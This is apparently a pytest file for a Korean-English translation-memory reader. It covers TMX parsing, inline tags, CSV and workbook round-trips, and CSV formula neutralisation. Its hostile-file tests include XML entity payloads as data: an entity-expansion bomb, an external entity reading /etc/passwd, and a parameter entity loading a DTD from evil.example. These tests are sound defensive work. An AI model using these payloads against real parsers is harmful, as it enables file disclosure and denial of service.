"""Files of pairs: what is taken in, what is left out and said, what is refused; and the way back."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import openpyxl
import pytest

from nlps_core.errors import Refused
from nlps_core.memory.matching import Entry, Pair, Provenance
from nlps_core.memory.packing import brought_from, pack_brought
from nlps_core.memory.reading import read_memory
from nlps_core.memory.tables_writing import write_csv, write_workbook
from nlps_core.memory.tmx_writing import write_tmx
from nlps_core.types import EN_KO, KO_EN, InlineTag

HEAD = '<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n'


def tmx(units: str, head: str = HEAD) -> bytes:
    return f'{head}<tmx version="1.4"><header srclang="ko"/><body>{units}</body></tmx>'.encode()


def unit(source: str, target: str, inside: str = "") -> str:
    return (
        f'<tu changedate="20250301T090000Z" creationid="kim">{inside}'
        f'<tuv xml:lang="ko-KR"><seg>{source}</seg></tuv>'
        f'<tuv xml:lang="EN_us"><seg>{target}</seg></tuv></tu>'
    )


def pairs(data: bytes, name: str = "a.tmx") -> list[tuple[str, str]]:
    return [(each.pair.source, each.pair.target) for each in read_memory(data, name, KO_EN).pairs]


def test_a_unit_becomes_a_pair_with_its_author_and_time() -> None:
    (found,) = read_memory(tmx(unit("매출", "Sales", '<prop type="prev">제목</prop>')), "a.tmx", KO_EN).pairs
    assert found.pair == Pair("매출", "Sales", previous="제목")
    assert (found.author, found.at) == ("kim", datetime(2025, 3, 1, 9, tzinfo=UTC))


def test_either_direction_is_read() -> None:
    (found,) = read_memory(tmx(unit("매출", "Sales")), "a.tmx", EN_KO).pairs
    assert (found.pair.source, found.pair.target) == ("Sales", "매출")


CODES = {
    "a pair of codes": (
        '<bpt i="5">&lt;b&gt;</bpt>매출<ept i="5">&lt;/b&gt;</ept>',
        '<bpt i="5">x</bpt>Sales<ept i="5">y</ept>',
        ("<1>매출</1>", "<1>Sales</1>"),
    ),
    "a placeholder": ('매출<ph x="1">x</ph>', 'Sales<ph x="1"/>', ("매출<1/>", "Sales<1/>")),
    "highlighted text": ("<hi>매출</hi>", "Sales", ("매출", "Sales")),
    "codes on one side": ('<bpt i="1">b</bpt>매출<ept i="1">b</ept>', "Sales", ("매출", "Sales")),
    "a lone half": ('<it pos="begin">b</it>매출', "Sales", ("매출", "Sales")),
    "text inside a code": ('매출<ph>a<sub>alt</sub></ph>', "Sales<ph/>", ("매출<1/>", "Sales<1/>")),
    "a number in brackets": (
        '&lt;1&gt; 매출<ph>x</ph>',
        '&lt;1&gt; Sales<ph>x</ph>',
        ("<1> 매출<2/>", "<1> Sales<2/>")),
}  # fmt: skip


@pytest.mark.parametrize("case", CODES.values(), ids=CODES)
def test_codes_become_tags_where_both_sides_have_them(case: tuple[str, str, tuple[str, str]]) -> None:
    source, target, expected = case
    assert pairs(tmx(unit(source, target))) == [expected]


def test_what_is_left_out_is_counted() -> None:
    units = [
        unit("매출", "Sales"),
        unit("매출", "Sales"),
        unit("매출", ""),
        unit("12", "12"),
        unit("x" * 20_001, "y"),
        '<tu><tuv xml:lang="ko"><seg>이익</seg></tuv></tu>',
        unit('<bpt i="1">b</bpt>이익<ept i="1">b</ept>', "Profit"),
    ]
    found = read_memory(tmx("".join(units)), "a.tmx", KO_EN)
    assert len(found.pairs) == 2
    assert found.notes == {
        "doubled": 1,
        "empty": 1,
        "signs_only": 1,
        "too_long": 1,
        "language_missing": 1,
        "tags_stripped": 1,
    }


HOSTILE = {
    "an entity": (
        tmx(unit("&a;", "x"), '<!DOCTYPE tmx [<!ENTITY a "b">]>'),
        "memory_document_type",
    ),
    "a bomb": (
        tmx(unit("&b;", "x"), '<!DOCTYPE tmx [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'),
        "memory_document_type",
    ),
    "a file of this machine": (
        tmx(unit("&a;", "x"), '<!DOCTYPE tmx [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
        "memory_document_type",
    ),
    "a parameter entity": (
        tmx(unit("a", "x"), '<!DOCTYPE tmx [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>'),
        "memory_document_type",
    ),
    "any declaration": (tmx(unit("a", "x"), "<!DOCTYPE tmx [<!ELEMENT tmx ANY>]>"), "memory_document_type"),
    "cut off": (tmx(unit("매출", "Sales"))[:-30], "memory_damaged"),
    "an encoding nobody knows": (
        b'<?xml version="1.0" encoding="klingon"?><tmx/>',
        "memory_encoding",
    ),
    "other XML": (b"<html/>", "memory_not_tmx"),
    "no pairs": (tmx(""), "memory_no_pairs"),
    "nothing": (b"", "file_empty"),
}


@pytest.mark.parametrize("case", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_or_broken_file_is_refused_with_its_cause(case: tuple[bytes, str]) -> None:
    data, code = case
    with pytest.raises(Refused) as refused:
        read_memory(data, "a.tmx", KO_EN)
    assert refused.value.code == code


def test_a_file_of_another_kind_is_refused() -> None:
    with pytest.raises(Refused, match="memory_kind_unknown"):
        read_memory(b"x", "a.docx", KO_EN)


TABLES = {
    "titles": ("번호,원문,번역\n1,매출,Sales\n", "utf-8"),
    "languages as titles": ("en;ko\nSales;매출\n", "utf-8-sig"),
    "no titles": ("매출\tSales\n", "utf-16"),
    "an old code page": ("한국어,영어\n매출,Sales\n", "cp949"),
}


@pytest.mark.parametrize("case", TABLES.values(), ids=TABLES)
def test_tables_are_read_as_excel_writes_them(case: tuple[str, str]) -> None:
    text, encoding = case
    assert pairs(text.encode(encoding), "a.csv") == [("매출", "Sales")]


def test_a_workbook_is_read_and_formulas_are_no_text() -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for row in (("ko", "en"), ("매출", "Sales"), ("이익", "=1+1")):
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    assert pairs(out.getvalue(), "a.xlsx") == [("매출", "Sales")]


def written(kind: str, entries: list[Entry]) -> bytes:
    if kind == "xlsx":
        out = io.BytesIO()
        write_workbook(entries, KO_EN, out)
        return out.getvalue()
    return b"".join((write_tmx if kind == "tmx" else write_csv)(entries, KO_EN))


@pytest.mark.parametrize("kind", ["tmx", "xlsx", "csv"])
def test_what_is_written_is_read_again(kind: str) -> None:
    texts = [("=SUM(A1) 합계", "=SUM(A1) total"), ("-매출 <&>", '\'Sales\n"x"'), ("@가나", "+82")]
    origin = Provenance("a.docx", "kim", datetime(2025, 3, 1, tzinfo=UTC), "가나")
    entries = [Entry(at, Pair(*each), KO_EN, origin) for at, each in enumerate(texts)]
    assert pairs(written(kind, entries), f"a.{kind}") == texts


def test_nothing_in_a_csv_file_is_a_formula() -> None:
    origin = Provenance("+a.docx", "@kim", None, "-가나")
    lines = written("csv", [Entry(1, Pair("=1+1", "\t2"), KO_EN, origin)]).decode("utf-8-sig")
    assert lines.splitlines()[1] == "'=1+1,'\t2,'+a.docx,'@kim,,'-가나"


def test_tags_survive_tmx_and_a_table_has_plain_text() -> None:
    tags = (InlineTag(1, paired=True), InlineTag(2, paired=False))
    pair = Pair("<1>매출</1><2/>", "<2/><1>Sales</1>", tags)
    entries = [Entry(1, pair, KO_EN, Provenance("", "", None, ""))]
    (found,) = read_memory(written("tmx", entries), "a.tmx", KO_EN).pairs
    assert found.pair == pair
    assert pairs(written("csv", entries), "a.csv") == [("매출", "Sales")]


def test_what_was_read_goes_through_json_unchanged() -> None:
    brought = read_memory(tmx(unit('매출<ph x="1"/>', 'Sales<ph x="1"/>')), "a.tmx", KO_EN)
    assert brought_from(pack_brought(brought)) == brought
